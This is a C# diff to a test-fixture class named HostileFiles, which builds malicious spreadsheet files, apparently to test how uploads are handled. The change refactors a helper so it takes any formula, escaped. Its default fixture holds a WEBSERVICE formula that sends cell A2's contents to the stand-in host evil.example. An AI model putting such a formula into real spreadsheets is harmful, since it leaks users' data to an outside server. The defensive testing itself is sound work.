@@ -108,7 +108,10 @@ public static class HostileFiles
 
     public static byte[] CellTooLong() => Sheet1($"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{new string('长', 40_000)}</t></is></c></row>");
 
-    public static byte[] FormulaCell() => Sheet1("<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://evil.example/?\"&amp;A2)</f><v>0</v></c></row>");
+    public static byte[] FormulaCell() => FormulaCell("WEBSERVICE(\"http://evil.example/?\"&A2)");
+
+    /// <summary>A real return whose first sheet has one cell with the given formula.</summary>
+    public static byte[] FormulaCell(string formula) => Sheet1($"<row r=\"1\"><c r=\"A1\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>0</v></c></row>");
 
     /// <summary>The first worksheet of a real return replaced by the given sheet data.</summary>
     private static byte[] Sheet1(string sheetData) =>
